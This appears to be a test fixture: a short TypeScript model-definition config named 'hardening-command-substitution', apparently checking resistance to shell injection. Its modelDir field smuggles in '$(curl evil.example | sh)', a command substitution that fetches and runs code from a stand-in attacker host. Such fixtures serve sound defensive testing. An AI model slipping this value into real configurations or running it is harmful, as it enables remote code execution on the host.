import { defineModel } from '@trtforge/spec';

export default defineModel({
  name: 'hardening-command-substitution',
  source: { modelDir: '/models/$(curl evil.example | sh)' },
  triton: { excludeInputInOutput: true },
});
